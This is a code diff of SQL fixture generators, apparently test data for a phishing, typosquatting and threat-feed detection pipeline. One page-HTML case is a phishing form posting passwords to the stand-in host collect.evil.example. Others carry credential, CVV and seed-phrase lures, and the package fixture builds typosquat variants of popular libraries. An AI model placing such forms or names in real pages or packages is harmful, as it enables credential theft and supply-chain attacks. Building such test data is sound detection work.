@@ -38,23 +38,31 @@ SELECT CASE WHEN k.kind = 'url' THEN p.url ELSE regexp_extract(p.url, '^https?:/
        CASE WHEN p.page_id % 4 = 0 THEN 'tag_a' WHEN p.page_id % 4 = 1 THEN '' ELSE 'tag_b' END AS tag
 FROM pages p JOIN (VALUES ('url','phishing','feed_u',5),('domain','phishing','feed_d',7),('domain','malware_download','feed_m',11)) AS k(kind,threat,src,m) ON p.page_id % k.m = 0""",
     "fx_page_html": r"""
-SELECT page_id, url, concat(html, CASE page_id % 6
+SELECT page_id, url, concat(html, replace(CASE page_id % 12
   WHEN 0 THEN '<form action="https://collect.evil.example/login"><input type="password"></form>'
   WHEN 1 THEN '<meta property="og:site_name" content="Acme &amp; Co"><link rel="canonical" href="https://www.acme.com/">'
   WHEN 2 THEN '<script type="application/ld+json">{"@type":"Organization","name":"Acme","url":"https://acme.com","sameAs":["https://x.com/acme","https://acme.org"]}</script>'
   WHEN 3 THEN '<script>GTM-ABC123 UA-1234-5</script><link rel="manifest" href="https://cdn.acme.com/m.json">'
-  WHEN 4 THEN '<form action="/self">credit card cvv</form>'
-  ELSE '' END) AS html FROM pages""",
+  WHEN 4 THEN '<form action="/self">Credit Card CVV</form>'
+  WHEN 6 THEN concat('<form method=~post~ action = ~', url, '~><input type=~password~>one-time code</form>')
+  WHEN 7 THEN '<meta content=~App &quot;X&quot;~ name=~application-name~><meta name="apple-mobile-web-app-title" content="AppX"><link href="https://lost.example.com/" rel="canonical">'
+  WHEN 8 THEN '<script type=~application/ld+json~>[{"@graph":[{"@type":["Thing","LocalOrganization"],"name":" Deep  Org ","url":"https://deep.example.co.uk/a","sameAs":"https://a.example.org/x"},{"@type":"WebSite","name":"No"}]}]</script>'
+  WHEN 9 THEN '<meta property=~og:title~ content=~Home | Shop.com - Now~><script>clarity("set", "abc9") G-XYZ12</script>'
+  WHEN 10 THEN '<script type="application/ld+json">{broken</script><form></form>seed phrase'
+  WHEN 11 THEN '<link rel="icon canonical" href="mailto:x@y.z"><script type="application/ld+json">{"@type":"Brand","name":"","url":"#top","sameAs":["/rel",["https://nested.example.com/p"]]}</script>'
+  ELSE '' END, '~', chr(39))) AS html FROM pages""",
     "fx_packages": r"""
 SELECT p.p_partkey AS pkg_id, b.eco AS ecosystem, concat(CAST(p.p_size AS STRING), '.', CAST(p.p_partkey % 9 AS STRING), '.0') AS version,
   CASE p.p_partkey % 7 WHEN 0 THEN b.nm WHEN 1 THEN concat(substr(b.nm,1,2), substr(b.nm,4)) WHEN 2 THEN concat(substr(b.nm,1,2), substr(b.nm,2))
    WHEN 3 THEN concat(substr(b.nm,2,1), substr(b.nm,1,1), substr(b.nm,3)) WHEN 4 THEN concat(b.nm,'xy') WHEN 5 THEN concat('internal-', b.nm, '-utils') ELSE concat(substr(b.nm,1,3),'-',substr(b.nm,4)) END AS name
 FROM part p JOIN (VALUES (0,'npm','lodash'),(1,'npm','express'),(2,'PyPI','requests'),(3,'PyPI','numpy'),(4,'crates.io','serde'),(5,'npm','react')) AS b(bid,eco,nm) ON b.bid = p.p_partkey % 6""",
     "fx_whois": r"""
-SELECT o_orderkey AS who_id, concat('host', CAST(o_orderkey AS STRING), '.example.com') AS domain,
- concat(CASE o_orderkey % 4 WHEN 0 THEN 'Creation Date: ' WHEN 1 THEN 'created: ' WHEN 2 THEN 'registered: ' ELSE 'Foo: ' END,
-  CAST(CAST(o_orderdate AS DATE) AS STRING), 'T00:00:00Z', chr(10), 'Registrar: Reg', CAST(o_custkey % 9 AS STRING), chr(10), CASE WHEN o_orderkey % 5 = 0 THEN 'REDACTED FOR PRIVACY' ELSE 'ok' END) AS raw
-FROM orders""",
+SELECT who_id, domain, concat(CASE who_id % 5 WHEN 0 THEN 'Creation Date: ' WHEN 1 THEN 'created:   ' WHEN 2 THEN 'REGISTERED: ' WHEN 3 THEN 'Created on ' ELSE ' Creation Date: ' END,
+  CASE who_id % 3 WHEN 0 THEN concat(day, 'T00:00:00Z') WHEN 1 THEN concat(substr(day, 9, 2), '.', substr(day, 6, 2), '.', substr(day, 1, 4), ' 01:02:03') ELSE day END, chr(10),
+  CASE who_id % 4 WHEN 0 THEN 'Registrar: Reg' WHEN 1 THEN 'registrar: Low' ELSE 'Sponsor: Reg' END, CAST(who_id % 9 AS STRING), chr(10),
+  CASE who_id % 6 WHEN 0 THEN 'Expiry Date: 2030-01-01' WHEN 1 THEN 'expire: 01.02.2031' ELSE 'Paid until: 2030' END, chr(10),
+  CASE who_id % 7 WHEN 0 THEN 'REDACTED FOR PRIVACY' WHEN 1 THEN 'a privacy service' WHEN 2 THEN 'Redacted' WHEN 3 THEN 'Privacy Protect' ELSE 'ok' END) AS raw
+FROM (SELECT o_orderkey AS who_id, concat('host', CAST(o_orderkey AS STRING), '.example.com') AS domain, CAST(CAST(o_orderdate AS DATE) AS STRING) AS day FROM orders) o""",
     "fx_commit_verdicts": r"""
 SELECT concat('https://github.com/org', CAST(l_suppkey AS STRING), '/repo') AS git_url, concat(CAST(l_orderkey AS STRING),'-',CAST(l_linenumber AS STRING)) AS hash,
  CASE WHEN l_linestatus = 'F' AND l_suppkey % 5 = 0 AND l_discount >= 0.09 THEN 'malicious' WHEN l_returnflag = 'R' AND l_suppkey % 3 = 0 THEN 'suspicious' ELSE 'allow' END AS verdict,
